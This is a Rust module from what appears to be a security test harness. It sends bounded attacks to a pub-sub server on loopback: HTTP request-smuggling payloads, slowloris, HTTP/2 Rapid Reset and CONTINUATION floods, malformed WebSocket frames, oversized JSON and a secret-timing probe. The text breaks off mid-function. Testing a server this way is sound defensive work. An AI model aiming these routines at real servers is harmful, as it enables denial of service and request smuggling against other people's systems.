//! The attacks. Each returns what it sent and what the server answered; the harness
//! measures memory and checks the server around it. Every loop is bounded in count and
//! time, and every socket goes to the loopback listeners named in the ready file.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use rustls::pki_types::ServerName;
use rustls::ClientConfig;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};
use tokio_rustls::client::TlsStream;
use tokio_rustls::TlsConnector;

use crate::bayeux;
use crate::net::Res;
use crate::raw::{self, describe_bayeux, describe_http, excerpt, End, RawWs};
use crate::server::{self, Gauge, Instance, Spec};

/// What an attack needs to know.
pub struct Env {
    /// Main server, plain listener.
    pub http: SocketAddr,
    /// Main server, TLS listener.
    pub https: SocketAddr,
    /// Main server, admin listener.
    pub admin: SocketAddr,
    /// The route attacked.
    pub prefix: String,
    /// The route's publish secret (secret profile), for the legitimate backend only.
    pub secret: Option<String>,
    /// Reduced sizes.
    pub quick: bool,
    /// TLS client configuration offering only `h2`.
    pub tls_h2: Arc<ClientConfig>,
    /// The main server (for its log).
    pub main_spec: Spec,
    /// The main server's memory.
    pub rss: Arc<Gauge>,
    /// A server with `max_connections = 200` and a short route timeout.
    pub limits_spec: Spec,
    /// That route's `timeout_secs`.
    pub limits_timeout: Duration,
    /// The main configuration started with a low open-files limit.
    pub fd_spec: Spec,
}

/// What an attack did and saw.
#[derive(Default)]
pub struct Outcome {
    /// What was sent.
    pub sent: String,
    /// What the server answered.
    pub answer: String,
    /// For attacks on a server of their own: its memory and state.
    pub own: Option<Own>,
}

/// Readings of an attack's own server.
pub struct Own {
    /// Which.
    pub name: String,
    /// RSS KiB at start, peak, at the end.
    pub rss: (u64, u64, u64),
    /// How the server was when the attack ended.
    pub state: String,
    /// Whether it died.
    pub died: bool,
}

/// Every attack, in running order: name and whether it runs only in the secret profile.
pub const ATTACKS: &[(&str, bool)] = &[
    ("malformed-json", false),
    ("deep-nesting", false),
    ("primitives", false),
    ("huge-strings", false),
    ("smuggling", false),
    ("slowloris", false),
    ("h2-rapid-reset", false),
    ("h2-continuation", false),
    ("ws-bad-frames", false),
    ("slow-consumer", false),
    ("secret-timing", true),
    ("channel-expansion-post-30k", false),
    ("channel-expansion-post-200k", false),
    ("channel-expansion-post-1m", false),
    ("channel-expansion-jsonp-30k", false),
    ("channel-expansion-jsonp-200k", false),
    ("channel-expansion-jsonp-1m", false),
    ("channel-expansion-ws-30k", false),
    ("channel-expansion-ws-200k", false),
    ("channel-expansion-ws-1m", false),
    ("amplify-ws", false),
    ("amplify-http1", false),
    ("amplify-h2", false),
    ("subscriptions", false),
    ("ws-max-connections", false),
    ("ws-fragment-idle", false),
    ("fd-exhaustion", false),
    ("handshake-lockout", false),
];

/// Runs one attack by name.
pub async fn run(name: &str, env: &Env) -> Outcome {
    let r = match name {
        "malformed-json" => malformed(env).await,
        "deep-nesting" => deep_nesting(env).await,
        "primitives" => primitives(env).await,
        "huge-strings" => huge_strings(env).await,
        "smuggling" => smuggling(env).await,
        "slowloris" => slowloris(env).await,
        "h2-rapid-reset" => rapid_reset(env).await,
        "h2-continuation" => continuation(env).await,
        "ws-bad-frames" => ws_bad_frames(env).await,
        "slow-consumer" => slow_consumer(env).await,
        "secret-timing" => secret_timing(env).await,
        "amplify-ws" => amplify_ws(env).await,
        "amplify-http1" => amplify_http1(env).await,
        "amplify-h2" => amplify_h2(env).await,
        "subscriptions" => subscriptions(env).await,
        "ws-max-connections" => ws_max_connections(env).await,
        "ws-fragment-idle" => ws_fragment_idle(env).await,
        "fd-exhaustion" => fd_exhaustion(env).await,
        "handshake-lockout" => handshake_lockout(env).await,
        n => match n.strip_prefix("channel-expansion-") {
            Some(rest) => channel_expansion(env, rest).await,
            None => Err(format!("no attack named {n}")),
        },
    };
    r.unwrap_or_else(|e| Outcome {
        sent: String::new(),
        answer: format!("attack step failed: {e}"),
        own: None,
    })
}

const S1: Duration = Duration::from_secs(1);
const S3: Duration = Duration::from_secs(3);
const S5: Duration = Duration::from_secs(5);
const S30: Duration = Duration::from_secs(30);

fn json_post(env: &Env, body: &[u8]) -> Vec<u8> {
    raw::request(
        "POST",
        &env.prefix,
        &[("Content-Type", "application/json")],
        Some(body),
    )
}

async fn post(env: &Env, body: &[u8], limit: Duration) -> Res<(u16, Vec<u8>)> {
    raw::http_once(
        env.http,
        "POST",
        &env.prefix,
        &[("Content-Type", "application/json")],
        Some(body),
        limit,
    )
    .await
}

async fn jsonp(env: &Env, message: &str, limit: Duration) -> Res<(u16, Vec<u8>)> {
    let path = format!("{}?message={}&jsonp=cb", env.prefix, urlenc(message));
    raw::http_once(env.http, "GET", &path, &[], None, limit).await
}

/// Percent-encodes all but unreserved characters and `/`.
fn urlenc(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~' | b'/') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Opens a WebSocket to the route, sends one text frame, describes the answer.
async fn ws_text(env: &Env, text: &[u8], limit: Duration) -> String {
    let mut ws = match RawWs::open(env.http, &env.prefix, None, S5).await {
        Ok(ws) => ws,
        Err(e) => return e,
    };
    if let Err(e) = ws.send(1, text, limit).await {
        return e;
    }
    ws.outcome(limit).await
}

fn cases(list: &[(String, String)]) -> String {
    list.iter()
        .map(|(k, v)| format!("{k} -> {v}"))
        .collect::<Vec<_>>()
        .join("; ")
}

fn secret_ext(env: &Env) -> String {
    match &env.secret {
        Some(s) => format!(",\"ext\":{{\"secret\":{}}}", bayeux::quote(s)),
        None => String::new(),
    }
}

/// Bytes in decimal units, as the issue counts them.
fn kb(n: usize) -> String {
    if n >= 1_000_000 {
        format!("{:.2} MB", n as f64 / 1e6)
    } else {
        format!("{} KB", (n + 500) / 1000)
    }
}

// ------------------------------------------------------------ malformed input

async fn malformed(env: &Env) -> Res<Outcome> {
    let mut out = Vec::new();
    let posts: [(&str, &[u8]); 4] = [
        ("POST truncated object", br#"{"channel":"#),
        ("POST not JSON", b"not json at all"),
        ("POST truncated batch", br#"[{"channel":"/meta/handshake""#),
        (
            "POST invalid UTF-8",
            b"[{\"channel\":\"/x\xff\xfe\",\"data\":1}]",
        ),
    ];
    for (label, body) in posts {
        out.push((label.to_string(), describe_http(&post(env, body, S5).await)));
    }
    let form = raw::http_once(
        env.http,
        "POST",
        &env.prefix,
        &[("Content-Type", "application/x-www-form-urlencoded")],
        Some(b"message=%7Bbad"),
        S5,
    )
    .await;
    out.push(("POST form message={bad".into(), describe_http(&form)));
    out.push((
        "JSONP message={bad".into(),
        describe_http(&jsonp(env, "{bad", S5).await),
    ));
    let bad_cb = raw::http_once(
        env.http,
        "GET",
        &format!("{}?message=%5B%5D&jsonp=alert(1)", env.prefix),
        &[],
        None,
        S5,
    )
    .await;
    out.push(("JSONP callback alert(1)".into(), describe_http(&bad_cb)));
    out.push(("WS text {bad".into(), ws_text(env, b"{bad", S3).await));
    Ok(Outcome {
        sent: "truncated and non-JSON bodies, invalid UTF-8, bad form and JSONP, a bad WS frame"
            .into(),
        answer: cases(&out),
        own: None,
    })
}

async fn deep_nesting(env: &Env) -> Res<Outcome> {
    let n = 100_000;
    let mut out = Vec::new();
    let open = "[".repeat(n);
    let balanced = format!("{open}{}", "]".repeat(n));
    let objects = "{\"a\":".repeat(n / 2);
    let in_data = format!(
        "[{{\"channel\":\"/hostile/nest\",\"data\":{balanced}{}}}]",
        secret_ext(env)
    );
    for (label, body) in [
        ("POST 100k [", open.as_bytes()),
        ("POST 100k [ ]", balanced.as_bytes()),
        ("POST 50k {\"a\":", objects.as_bytes()),
        ("POST publish, data 100k deep", in_data.as_bytes()),
    ] {
        out.push((
            label.to_string(),
            describe_http(&post(env, body, S30).await),
        ));
    }
    out.push((
        "JSONP 30k [".into(),
        describe_http(&jsonp(env, &"[".repeat(30_000), S30).await),
    ));
    out.push(("WS 100k [".into(), ws_text(env, open.as_bytes(), S5).await));
    Ok(Outcome {
        sent: format!("{n} nested arrays and objects by POST, JSONP and WebSocket"),
        answer: cases(&out),
        own: None,
    })
}

async fn primitives(env: &Env) -> Res<Outcome> {
    let mut out = Vec::new();
    for body in [
        "1",
        "\"x\"",
        "null",
        "true",
        "[]",
        "{}",
        "[1,\"x\",null]",
        "[{\"channel\":1}]",
        "[{\"channel\":null,\"data\":null}]",
        "[{\"channel\":\"/meta/connect\",\"clientId\":[]}]",
    ] {
        out.push((
            format!("POST {body}"),
            describe_http(&post(env, body.as_bytes(), S5).await),
        ));
    }
    out.push(("WS 1".into(), ws_text(env, b"1", S3).await));
    out.push(("WS null".into(), ws_text(env, b"null", S3).await));
    Ok(Outcome {
        sent: "JSON primitives and wrongly typed fields as whole messages".into(),
        answer: cases(&out),
        own: None,
    })
}

async fn huge_strings(env: &Env) -> Res<Outcome> {
    let mut out = Vec::new();
    let big = "x".repeat(1_000_000);
    let publish = format!(
        "[{{\"channel\":\"/hostile/big\",\"data\":\"{big}\"{}}}]",
        secret_ext(env)
    );
    out.push((
        "POST publish, 1 MB string".into(),
        describe_http(&post(env, publish.as_bytes(), S30).await),
    ));
    let over = format!("[{{\"channel\":\"/hostile/big\",\"data\":\"{big}{big}\"}}]");
    out.push((
        "POST 2 MB body".into(),
        describe_http(&post(env, over.as_bytes(), S30).await),
    ));
    let spaces = format!("{}[]", " ".repeat(1_000_000));
    out.push((
        "POST 1 MB whitespace".into(),
        describe_http(&post(env, spaces.as_bytes(), S30).await),
    ));
    let id = format!("[{{\"channel\":\"/meta/handshake\",\"version\":\"1.0\",\"supportedConnectionTypes\":[\"long-polling\"],\"id\":\"{big}\"}}]");
    out.push((
        "POST handshake, 1 MB id".into(),
        describe_http(&post(env, id.as_bytes(), S30).await),
    ));
    let number = "[{\"channel\":\"/hostile/big\",\"data\":1e999999}]";
    out.push((
        "POST number 1e999999".into(),
        describe_http(&post(env, number.as_bytes(), S5).await),
    ));
    let pad = "a".repeat(100_000);
    let hdr = raw::http_once(
        env.http,
        "POST",
        &env.prefix,
        &[("Content-Type", "application/json"), ("X-Pad", &pad)],
        Some(b"[]"),
        S5,
    )
    .await;
    out.push(("100 KB header".into(), describe_http(&hdr)));
    out.push((
        "WS 1 MB publish".into(),
        ws_text(env, publish.as_bytes(), S5).await,
    ));
    out.push((
        "WS 2 MB frame".into(),
        ws_text(env, over.as_bytes(), S5).await,
    ));
    Ok(Outcome {
        sent: "1-2 MB strings in data, ids and bodies, a huge number, a 100 KB header".into(),
        answer: cases(&out),
        own: None,
    })
}

// ------------------------------------------------------------ HTTP/1.1 framing

async fn smuggling(env: &Env) -> Res<Outcome> {
    let p = &env.prefix;
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let head = |extra: &str| {
        format!(
            "POST {p} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{extra}\r\n"
        )
    };
    let cases_raw: Vec<(&str, String)> = vec![
        (
            "CL+TE",
            format!(
                "{}0\r\n\r\n{smuggled}",
                head("Content-Length: 6\r\nTransfer-Encoding: chunked\r\n")
            ),
        ),
        (
            "TE+CL",
            format!(
                "{}0\r\n\r\n{smuggled}",
                head("Transfer-Encoding: chunked\r\nContent-Length: 6\r\n")
            ),
        ),
        (
            "double CL",
            format!(
                "{}[]{smuggled}",
                head("Content-Length: 2\r\nContent-Length: 45\r\n")
            ),
        ),
        (
            "TE chunked+identity",
            format!(
                "{}0\r\n\r\n{smuggled}",
                head("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n")
            ),
        ),
        (
            "TE xchunked",
            format!(
                "{}0\r\n\r\n{smuggled}",
                head("Transfer-Encoding: xchunked\r\n")
            ),
        ),
        (
            "TE with space before colon",
            format!(
                "{}0\r\n\r\n{smuggled}",
                head("Transfer-Encoding : chunked\r\n")
            ),
        ),
        (
            "chunk size overflow",
            format!(
                "{}ffffffffffffffffffff\r\n[]\r\n0\r\n\r\n",
                head("Transfer-Encoding: chunked\r\n")
            ),
        ),
        (
            "negative CL",
            format!("{}[]", head("Content-Length: -1\r\n")),
        ),
        (
            "bare LF",
            format!(
                "POST {p} HTTP/1.1\nHost: localhost\nContent-Type: application/json\nContent-Length: 2\n\n[]{smuggled}"
            ),
        ),
    ];
    let mut out = Vec::new();
    for (label, req) in cases_raw {
        let r = raw::exchange(env.http, req.as_bytes(), Duration::from_secs(2)).await;
        let text = match r {
            Ok(r) => {
                let st = raw::statuses(&r.bytes);
                let st = if st.is_empty() {
                    "no response".to_string()
                } else {
                    st.iter()
                        .map(|c| c.to_string())
                        .collect::<Vec<_>>()
                        .join("+")
                };
                format!("{st}, {}", r.end.text())
            }
            Err(e) => e,
        };
        out.push((label.to_string(), text));
    }
    Ok(Outcome {
        sent: "conflicting Content-Length/Transfer-Encoding, each followed by a smuggled GET"
            .into(),
        answer: format!("{} (a '+' means several responses)", cases(&out)),
        own: None,
    })
}

async fn slowloris(env: &Env) -> Res<Outcome> {
    let n = if env.quick { 100 } else { 1000 };
    let bound = if env.quick {
        Duration::from_secs(12)
    } else {
        Duration::from_secs(40)
    };
    let start = Instant::now();
    let deadline = start + bound;
    let mut set = JoinSet::new();
    for _ in 0..n {
        let addr = env.http;
        let prefix = env.prefix.clone();
        set.spawn(async move {
            let mut s = raw::tcp(addr, None, S5).await.ok()?;
            let t0 = Instant::now();
            let first = format!("POST {prefix} HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
            if raw::write_for(&mut s, first.as_bytes(), S5).await.is_err() {
                return Some(Some(t0.elapsed()));
            }
            let mut buf = [0u8; 1024];
            loop {
                if Instant::now() >= deadline {
                    return Some(None);
                }
                tokio::select! {
                    r = s.read(&mut buf) => match r {
                        Ok(0) | Err(_) => return Some(Some(t0.elapsed())),
                        Ok(_) => {}
                    },
                    _ = sleep(S1) => {
                        if s.write_all(b"a").await.is_err() {
                            return Some(Some(t0.elapsed()));
                        }
                    }
                }
            }
        });
    }
    sleep(S5).await;
    let t = Instant::now();
    let probe = post(env, bayeux::handshake("long-polling").as_bytes(), S5).await;
    let probe = format!(
        "{} in {} ms",
        describe_http(&probe),
        t.elapsed().as_millis()
    );
    let health = server::healthz(env.admin, S5).await;
    let mut opened = 0;
    let mut closed = Vec::new();
    while let Some(r) = set.join_next().await {
        if let Ok(Some(c)) = r {
            opened += 1;
            if let Some(t) = c {
                closed.push(t);
            }
        }
    }
    closed.sort();
    let median = closed
        .get(closed.len() / 2)
        .map(|d| format!(", median after {:.1} s", d.as_secs_f64()))
        .unwrap_or_default();
    Ok(Outcome {
        sent: format!(
            "{n} connections sending request headers one byte a second, for up to {} s",
            bound.as_secs()
        ),
        answer: format!(
            "{opened} opened; {} closed by the server{median}; {} still open at the end; a new client's handshake meanwhile: {probe}; /healthz {health}",
            closed.len(),
            opened - closed.len()
        ),
        own: None,
    })
}

// ------------------------------------------------------------ HTTP/2

async fn tls_h2(env: &Env) -> Res<TlsStream<TcpStream>> {
    let tcp = raw::tcp(env.https, None, S5).await?;
    let name = ServerName::try_from("localhost").map_err(|e| format!("server name: {e}"))?;
    let tls = timeout(
        S5,
        TlsConnector::from(env.tls_h2.clone()).connect(name, tcp),
    )
    .await
    .map_err(|_| "TLS handshake timed out".to_string())?
    .map_err(|e| format!("TLS handshake: {e}"))?;
    if tls.get_ref().1.alpn_protocol() != Some(b"h2") {
        return Err("the TLS listener did not choose h2".into());
    }
    Ok(tls)
}

async fn rapid_reset(env: &Env) -> Res<Outcome> {
    let n: u64 = if env.quick { 10_000 } else { 100_000 };
    let bound = Duration::from_secs(15);
    let io = tls_h2(env).await?;
    let (client, conn) = h2::client::Builder::new()
        .handshake::<_, Bytes>(io)
        .await
        .map_err(|e| format!("h2 handshake: {e}"))?;
    let conn_task = tokio::spawn(conn);
    let uri = format!("https://localhost{}", env.prefix);
    let start = Instant::now();
    let mut sent = 0u64;
    let mut end = format!("stopped after {} s", bound.as_secs());
    let mut slot = Some(client);
    while sent < n && start.elapsed() < bound {
        let Some(c) = slot.take() else { break };
        let mut client = match timeout(Duration::from_secs(2), c.ready()).await {
            Ok(Ok(c)) => c,
            Ok(Err(e)) => {
                end = format!("server ended it: {e}");
                break;
            }
            Err(_) => {
                end = "no stream slot within 2 s".into();
                break;
            }
        };
        let req = http::Request::post(uri.as_str())
            .header("content-type", "application/json")
            .body(())
            .map_err(|e| format!("request: {e}"))?;
        match client.send_request(req, false) {
            Ok((resp, mut body)) => {
                body.send_reset(h2::Reason::CANCEL);
                drop(resp);
                sent += 1;
            }
            Err(e) => {
                end = format!("server ended it: {e}");
                break;
            }
        }
        slot = Some(client);
        if sent & 63 == 0 {
            tokio::task::yield_now().await;
        }
    }
    if sent == n {
        end = "all sent".into();
    }
    let secs = start.elapsed().as_secs_f64();
    drop(slot);
    let conn_end = match timeout(Duration::from_secs(3), conn_task).await {
        Ok(Ok(Ok(()))) => "connection closed cleanly".to_string(),
        Ok(Ok(Err(e))) => format!("connection: {e}"),
        Ok(Err(e)) => format!("connection task: {e}"),
        Err(_) => "connection still open".into(),
    };
    Ok(Outcome {
        sent: format!(
            "HEADERS then RST_STREAM(CANCEL), up to {n} streams on one TLS h2 connection"
        ),
        answer: format!(
            "{sent} streams opened and reset in {secs:.1} s ({:.0}/s); {end}; {conn_end}",
            sent as f64 / secs.max(0.001)
        ),
        own: None,
    })
}

fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = len.to_be_bytes()[1..].to_vec();
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

fn h2_error_name(code: u32) -> &'static str {
    match code {
        0 => "NO_ERROR",
        1 => "PROTOCOL_ERROR",
        2 => "INTERNAL_ERROR",
        3 => "FLOW_CONTROL_ERROR",
        6 => "FRAME_SIZE_ERROR",
        7 => "REFUSED_STREAM",
        8 => "CANCEL",
        9 => "COMPRESSION_ERROR",
        11 => "ENHANCE_YOUR_CALM",
        13 => "HTTP_1_1_REQUIRED",
        _ => "",
    }
}

async fn continuation(env: &Env) -> Res<Outcome> {
    let max_frames: u64 = if env.quick { 20_000 } else { 200_000 };
    let bound = Duration::from_secs(10);
    let io = tls_h2(env).await?;
    let (mut rd, mut wr) = tokio::io::split(io);
    let start = Instant::now();
    // The server's side: GOAWAY, RST_STREAM, or the end of the connection.
    let reader = tokio::spawn(async move {
        let mut buf: Vec<u8> = Vec::new();
        let mut chunk = vec![0u8; 16384];
        let mut seen = Vec::new();
        loop {
            while buf.len() >= 9 {
                let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
                if buf.len() < 9 + len {
                    break;
                }
                let kind = buf[3];
                let payload = &buf[9..9 + len];
                match kind {
                    7 if payload.len() >= 8 => {
                        let code =
                            u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                        let debug = String::from_utf8_lossy(&payload[8..]).into_owned();
                        seen.push(format!(
                            "GOAWAY {code} {} {} after {:.1} s",
                            h2_error_name(code),
                            excerpt(&debug, 40),
                            start.elapsed().as_secs_f64()
                        ));
                    }
                    3 if payload.len() >= 4 => {
                        let code =
                            u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
                        seen.push(format!("RST_STREAM {}", h2_error_name(code)));
                    }
                    _ => {}
                }
                buf.drain(..9 + len);
            }
            match timeout(Duration::from_secs(15), rd.read(&mut chunk)).await {
                Ok(Ok(0)) => {
                    seen.push(format!(
                        "closed after {:.1} s",
                        start.elapsed().as_secs_f64()
                    ));
                    break;
                }
                Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
                Ok(Err(e)) => {
                    seen.push(format!(
                        "{} after {:.1} s",
                        e.kind(),
                        start.elapsed().as_secs_f64()
                    ));
                    break;
                }
                Err(_) => break,
            }
        }
        seen
    });
    let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    opening.extend(h2_frame(4, 0, 0, &[]));
    opening.extend(h2_frame(4, 1, 0, &[]));
    // :method GET, :scheme https, :path /, :authority localhost; END_STREAM, no END_HEADERS.
    let mut block = vec![0x82, 0x87, 0x84, 0x41, 9];
    block.extend_from_slice(b"localhost");
    opening.extend(h2_frame(1, 0x1, 1, &block));
    let mut one = vec![0x00, 3];
    one.extend_from_slice(b"x-a");
    one.push(10);
    one.extend_from_slice(b"aaaaaaaaaa");
    let cont = h2_frame(9, 0, 1, &one.repeat(256));
    let mut frames = 0u64;
    let mut stop = format!("stopped at the bound ({} s)", bound.as_secs());
    if let Err(e) = raw::write_for(&mut wr, &opening, S5).await {
        stop = e;
    } else {
        let batch = cont.repeat(16);
        while frames < max_frames && start.elapsed() < bound {
            if reader.is_finished() {
                stop = "server closed the connection".into();
                break;
            }
            match raw::write_for(&mut wr, &batch, S5).await {
                Ok(()) => frames += 16,
                Err(e) => {
                    stop = if e.contains("did not finish") {
                        "the server stopped reading".into()
                    } else {
                        e
                    };
                    break;
                }
            }
        }
        if frames >= max_frames {
            stop = "all sent".into();
        }
    }
    let secs = start.elapsed().as_secs_f64();
    let _ = wr.shutdown().await;
    let seen = match timeout(Duration::from_secs(3), reader).await {
        Ok(Ok(s)) if !s.is_empty() => s.join(", "),
        Ok(Ok(_)) => "nothing".into(),
        _ => "no end seen".into(),
    };
    Ok(Outcome {
        sent: format!(
            "HEADERS without END_HEADERS, then up to {max_frames} CONTINUATION frames of {} B",
            cont.len() - 9
        ),
        answer: format!(
            "{frames} frames ({}) sent in {secs:.1} s; {stop}; server: {seen}",
            kb(frames as usize * cont.len())
        ),
        own: None,
    })
}

// ------------------------------------------------------------ WebSocket frames

async fn ws_bad_frames(env: &Env) -> Res<Outcome> {
    let big = vec![b'a'; 2 << 20];
    let mut cases_raw: Vec<(&str, Vec<u8>)> = vec![
        ("opcode 3", raw::frame(true, 0, 3, b"x", true)),
        ("opcode 11", raw::frame(true, 0, 11, b"x", true)),
        ("unmasked text", raw::frame(true, 0, 1, b"[]", false)),
        (
            "invalid UTF-8",
            raw::frame(true, 0, 1, b"[\"\xff\xfe\"]", true),
        ),
        ("RSV1 set", raw::frame(true, 4, 1, b"[]", true)),
        ("ping of 200 B", raw::frame(true, 0, 9, &[b'p'; 200], true)),
        ("fragmented ping", raw::frame(false, 0, 9, b"p", true)),
        ("continuation first", raw::frame(true, 0, 0, b"[]", true)),
        (
            "close code 999",
            raw::frame(true, 0, 8, &999u16.to_be_bytes(), true),
        ),
        ("2 MB text frame", raw::frame(true, 0, 1, &big, true)),
    ];
    let mut huge = raw::header(true, 0, 1, 1 << 40, true);
    huge.extend_from_slice(&[1, 2, 3, 4]);
    huge.extend_from_slice(&[b'a'; 4096]);
    cases_raw.push(("declared 1 TB", huge));
    let mut msb = vec![0x81, 0xff];
    msb.extend_from_slice(&u64::MAX.to_be_bytes());
    msb.extend_from_slice(&[1, 2, 3, 4]);
    cases_raw.push(("64-bit length with MSB set", msb));
    let mut out = Vec::new();
    for (label, bytes) in cases_raw {
        let text = match RawWs::open(env.http, &env.prefix, None, S5).await {
            Ok(mut ws) => match ws.send_raw(&bytes, S5).await {
                Ok(()) => ws.outcome(S5).await,
                Err(e) => {
                    let after = ws.outcome(S1).await;
                    format!("{e}; {after}")
                }
            },
            Err(e) => e,
        };
        out.push((label.to_string(), text));
    }
    Ok(Outcome {
        sent: "one bad frame per WebSocket".into(),
        answer: cases(&out),
        own: None,
    })
}

// ------------------------------------------------------------ slow consumer (defect 8)

/// Handshakes and subscribes over a raw WebSocket; returns the client id.
async fn ws_subscribe(ws: &mut RawWs, channel: &str) -> Res<String> {
    ws.send(1, bayeux::handshake("websocket").as_bytes(), S5)
        .await?;
    let text = ws.next_text(S5).await?;
    let v: serde_json::Value =
        serde_json::from_str(&text).map_err(|e| format!("handshake reply: {e}"))?;
    let id = v
        .get(0)
        .and_then(|m| m.get("clientId"))
        .and_then(|c| c.as_str())
        .ok_or_else(|| format!("handshake refused: {}", describe_bayeux(text.as_bytes())))?
        .to_string();
    let msg = format!(
        "[{},{}]",
        bayeux::connect(&id, "websocket", 2, true),
        bayeux::subscribe(&id, channel, 3)
    );
    ws.send(1, msg.as_bytes(), S5).await?;
    let deadline = Instant::now() + S5;
    while Instant::now() < deadline {
        let t = ws.next_text(S5).await?;
        if t.contains("/meta/subscribe") {
            if t.contains("\"successful\":true") {
                return Ok(id);
            }
            return Err(format!(
                "subscribe refused: {}",
                describe_bayeux(t.as_bytes())
            ));
        }
    }
    Err("no subscribe reply".into())
}

async fn slow_consumer(env: &Env) -> Res<Outcome> {
    let total: usize = if env.quick { 4_000 } else { 40_000 };
    let per_post = 500;
    let mut ws = RawWs::open(env.http, &env.prefix, Some(4096), S5).await?;
    let id = ws_subscribe(&mut ws, "/hostile/slow").await?;
    let held = format!("[{}]", bayeux::connect(&id, "websocket", 4, false));
    ws.send(1, held.as_bytes(), S5).await?;
    // From here on the socket is never read.
    let before = server::count_log(&env.main_spec);
    let target = crate::net::Target::parse(
        &format!("http://{}{}", env.http, env.prefix),
        &crate::net::TlsOptions {
            ca: None,
            insecure: false,
        },
    )?;
    let mut conn = timeout(S5, target.http())
        .await
        .map_err(|_| "backend connection timed out".to_string())??;
    let pad = "p".repeat(200);
    let ext = secret_ext(env);
    let mut ok = 0usize;
    let mut errors = Vec::new();
    let start = Instant::now();
    let mut i = 0;
    while i < total && start.elapsed() < Duration::from_secs(60) {
        let msgs: Vec<String> = (i..(i + per_post).min(total))
            .map(|n| {
                format!(
                    "{{\"channel\":\"/hostile/slow\",\"data\":{{\"n\":{n},\"p\":\"{pad}\"}}{ext}}}"
                )
            })
            .collect();
        i += msgs.len();
        match conn
            .post(
                &env.prefix,
                Bytes::from(format!("[{}]", msgs.join(","))),
                S30,
            )
            .await
        {
            Ok((200, body)) => {
                let d = describe_bayeux(&body);
                ok += d
                    .split(" ok")
                    .next()
                    .and_then(|n| n.parse::<usize>().ok())
                    .unwrap_or(0);
                if !d.ends_with(" ok") && errors.len() < 2 {
                    errors.push(d);
                }
            }
            Ok((code, body)) => errors.push(format!("{code} {}", describe_bayeux(&body))),
            Err(e) => {
                errors.push(e);
                break;
            }
        }
    }
    let secs = start.elapsed().as_secs_f64();
    sleep(S1).await;
    let after = server::count_log(&env.main_spec);
    drop(ws);
    Ok(Outcome {
        sent: format!(
            "a WebSocket subscriber to /hostile/slow that never reads; {total} publications of 200 B to it, {per_post} per POST"
        ),
        answer: format!(
            "{ok} acknowledged in {secs:.1} s{}; server log grew by {} lines ({} WARN), {}",
            if errors.is_empty() {
                String::new()
            } else {
                format!(" (also: {})", errors.join("; "))
            },
            after.lines.saturating_sub(before.lines),
            after.warns.saturating_sub(before.warns),
            kb(after.bytes.saturating_sub(before.bytes) as usize)
        ),
        own: None,
    })
}

// ------------------------------------------------------------ secret timing

async fn secret_timing(env: &Env) -> Res<Outcome> {
    let secret = env
        .secret
        .clone()
        .ok_or("no secret in this profile")?
        .into_bytes();
    if secret.is_empty() {
        return Err("the secret is empty".into());
    }
    let flip = |b: u8| if b == b'x' { b'y' } else { b'x' };
    let mut first = secret.clone();
    first[0] = flip(first[0]);
    let mut last = secret.clone();
    let n = last.len() - 1;
    last[n] = flip(last[n]);
    let first = String::from_utf8_lossy(&first).into_owned();
    let last = String::from_utf8_lossy(&last).into_owned();
    let rounds = if env.quick { 100 } else { 300 };
    let target = crate::net::Target::parse(
        &format!("http://{}{}", env.http, env.prefix),
        &crate::net::TlsOptions {
            ca: None,
            insecure: false,
        },
    )?;
    let mut conn = timeout(S5, target.http())
        .await
        .map_err(|_| "connection timed out".to_string())??;
    let mut times: [Vec<f64>; 2] = [Vec::new(), Vec::new()];
    let mut refused = [0usize; 2];
    for _ in 0..rounds {
        for (k, s) in [&first, &last].into_iter().enumerate() {
            let body = format!(
                "[{{\"channel\":\"/hostile/timing\",\"data\":1,\"ext\":{{\"secret\":{}}}}}]",
                bayeux::quote(s)
            );
            let t = Instant::now();
            let (_, b) = conn.post(&env.prefix, Bytes::from(body), S5).await?;
            times[k].push(t.elapsed().as_secs_f64() * 1e6);
            if describe_bayeux(&b).contains("403") {
                refused[k] += 1;
            }
        }
    }
    let stat = |v: &mut Vec<f64>| {
        v.sort_by(|a, b| a.total_cmp(b));
        let mean = v.iter().sum::<f64>() / v.len().max(1) as f64;
        let median = v.get(v.len() / 2).copied().unwrap_or(0.0);
        (mean, median)
    };
    let (m0, d0) = stat(&mut times[0]);
    let (m1, d1) = stat(&mut times[1]);
    Ok(Outcome {
        sent: format!(
            "{rounds} publishes each with a wrong secret of the right length: wrong first byte / wrong last byte, interleaved"
        ),
        answer: format!(
            "wrong first byte: mean {m0:.0} us, median {d0:.0} us ({} refused); wrong last byte: mean {m1:.0} us, median {d1:.0} us ({} refused); informational",
            refused[0], refused[1]
        ),
        own: None,
    })
}

// ------------------------------------------------------------ defect 1: channel expansion

async fn channel_expansion(env: &Env, which: &str) -> Res<Outcome> {
    let (via, size) = which.rsplit_once('-').ok_or("bad variant")?;
    let bytes = match (size, env.quick) {
        ("30k", false) => 30_000,
        ("200k", false) => 200_000,
        ("1m", false) => 1_040_000,
        ("30k", true) => 10_000,
        ("200k", true) => 20_000,
        ("1m", true) => 40_000,
        _ => return Err(format!("bad size {size}")),
    };
    let channel = "/a".repeat(bytes / 2);
    let message = format!("[{{\"channel\":\"{channel}\",\"data\":\"x\"}}]");
    let start = Instant::now();
    let (sent, answer) = match via {
        "post" => (
            format!(
                "POST one publish to \"/a\" x {} ({} channel name)",
                bytes / 2,
                kb(bytes)
            ),
